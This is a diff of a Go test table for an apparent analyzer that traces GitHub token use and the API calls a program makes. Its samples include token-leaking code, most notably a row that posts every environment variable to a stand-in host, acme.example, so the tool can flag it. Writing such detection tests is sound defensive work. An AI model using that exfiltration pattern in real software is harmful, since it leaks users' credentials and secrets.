@@ -119,7 +119,7 @@ func main() { connect(need("TOKEN")).Repositories.Get(ctx, "a", "b") }`, []strin
 		{"request written out", `func main() { connect(os.Getenv("TOKEN")).Issues.Edit(ctx, "a", "b", 7, &github.IssueRequest{Body: nil}) }`, []string{"issues/update a/b"}, ""},
 		{"request from elsewhere", `func main() { r := &github.IssueRequest{}; r.State = nil; connect(os.Getenv("TOKEN")).Issues.Edit(ctx, "a", "b", 7, r) }`, []string{"issues/update a/b open"}, ""},
 		{"request without names", `func main() { connect(os.Getenv("TOKEN")).Issues.Edit(ctx, "a", "b", 7, &github.IssueRequest{x, y}) }`, []string{"issues/update a/b open"}, ""},
-		{"operands", `func main() { repo := flag.String("repo", "x", ""); org := flag.String("org", "o", ""); c := connect(os.Getenv("TOKEN")); c.Issues.Create(ctx, os.Args[1], *repo, nil); c.Issues.Create(ctx, *org, os.Args[5], nil) }`, []string{"issues/create a/b", "issues/create o/os.Args[5]"}, ""},
+		{"operands", `func main() { repo := flag.String("repo", "x", ""); org := flag.String("org", "o", ""); c := connect(os.Getenv("TOKEN")); c.Issues.Create(ctx, os.Args[1], *repo, nil); c.Issues.Create(ctx, *org, os.Args[5], nil) }`, []string{"issues/create a/x", "issues/create o/os.Args[5]"}, ""},
 		{"net/http", `func main() {
 	req, _ := http.NewRequest(http.MethodPost, "https://api.github.com/repos/a/b/dispatches", strings.NewReader("{}"))
 	req.Header.Set("Authorization", "Bearer "+os.Getenv("TOKEN"))
@@ -133,13 +133,13 @@ func main() { connect(need("TOKEN")).Repositories.Get(ctx, "a", "b") }`, []strin
 func main() { a := app{connect(os.Getenv("TOKEN"))}; a.Issues.Create(ctx, "a", "b", nil) }`, nil, "calls Issues.Create of a client that is not followed"},
 		{"callback", `func each(f func(*github.Client)) { f(connect(os.Getenv("TOKEN"))) }
 func main() { each(func(c *github.Client) { c.Issues.Create(ctx, "a", "b", nil) }) }`, []string{"issues/create a/b"}, ""},
-		{"map", `func main() { m := map[string]*github.Client{}; m["x"] = connect(os.Getenv("TOKEN")); m["x"].Issues.Create(ctx, "a", "b", nil) }`, nil, "does something with the token that is not followed; calls Issues.Create of a client that is not followed"},
+		{"map", `func main() { m := map[string]*github.Client{}; m["x"] = connect(os.Getenv("TOKEN")); m["x"].Issues.Create(ctx, "a", "b", nil) }`, []string{"issues/create a/b"}, "does something with the token that is not followed"},
 		{"channel", `func main() { c := make(chan string, 1); c <- os.Getenv("TOKEN") }`, nil, "sends the token through a channel"},
 		{"written", `func main() { os.WriteFile("x", []byte(os.Getenv("TOKEN")), 0o600) }`, nil, "hands the token to os.WriteFile"},
 		{"written by Fprintf", `func main() { f, _ := os.Create("x"); fmt.Fprintf(f, "%s", os.Getenv("TOKEN")) }`, nil, "hands the token to fmt.Fprintf"},
 		{"environment", `func main() { for _, kv := range os.Environ() { http.Post("https://acme.example/", "text/plain", strings.NewReader(kv)) } }`, nil, "hands the token to http.Post"},
 		{"computed name", `func main() { fmt.Println(os.Getenv(os.Args[9])) }`, nil, "reads a variable whose name is only known when it runs"},
-		{"name handed on", `func main() { http.Get("TOKEN") }`, nil, "hands the token to http.Get"},
+		{"name handed on", `func main() { http.Get("TOKEN") }`, nil, "hands the token to http.Get; names the variable TOKEN without a way to it that is followed"},
 		{"server of its own", `func main() { c, _ := connect(os.Getenv("TOKEN")).WithEnterpriseURLs(os.Getenv("X"), ""); c.Issues.Create(ctx, "a", "b", nil) }`, []string{"issues/create a/b"}, "calls WithEnterpriseURLs of the client, which is not followed"},
 		{"address changed", `func main() { c := connect(os.Getenv("TOKEN")); c.BaseURL = nil }`, nil, "changes BaseURL of the client"},
 		{"transport", `type t struct { token string }
@@ -183,7 +183,7 @@ func main() { run("git", "status") }`, []string{"git status"}, "starts programs 
 func run(c *github.Client, args []string) { if len(args) < 2 { c.Zen(ctx); return }; switch cmd := args[0]; cmd { case "a": c.Issues.Create(ctx, "a", "b", nil); default: c.Repositories.Delete(ctx, "a", "b") } }`, []string{"issues/create a/b"}, ""},
 		{"picked by a name that is given more", `func main() { run(connect(os.Getenv("TOKEN")), os.Args[1:]) }
 func run(c *github.Client, args []string) { cmd := args[0]; if cmd == "a" { cmd = "x" }; if cmd == "x" { c.Repositories.Delete(ctx, "a", "b") } }`, []string{"repos/delete a/b"}, ""},
-		{"picked by a flag", `func main() { repo := flag.String("repo", "", ""); dry := flag.Bool("dry", false, ""); flag.Parse(); c := connect(os.Getenv("TOKEN")); if *dry { c.Repositories.Delete(ctx, "a", "b") } else if *repo == "b" { c.Issues.Create(ctx, "a", "b", nil) } else { c.Repositories.Delete(ctx, "a", "b") } }`, []string{"issues/create a/b"}, ""},
+		{"a flag behind an operand", `func main() { repo := flag.String("repo", "", ""); dry := flag.Bool("dry", false, ""); flag.Parse(); c := connect(os.Getenv("TOKEN")); if *dry { c.Repositories.Delete(ctx, "a", "b") } else if *repo == "b" { c.Issues.Create(ctx, "a", "b", nil) } else { c.Repositories.Delete(ctx, "a", "b") } }`, []string{"repos/delete a/b"}, ""},
 		{"never given", `var dry bool
 func main() { c := connect(os.Getenv("TOKEN")); if dry { c.Repositories.Delete(ctx, "a", "b") }; flag.BoolVar(&dry, "dry", false, "") }`, []string{"repos/delete a/b"}, ""},
 		{"graphql", `func main() { req, _ := http.NewRequest("POST", "https://api.github.com/graphql", nil); req.Header.Set("Authorization", os.Getenv("TOKEN")); http.DefaultClient.Do(req) }`, nil, "asks GraphQL"},
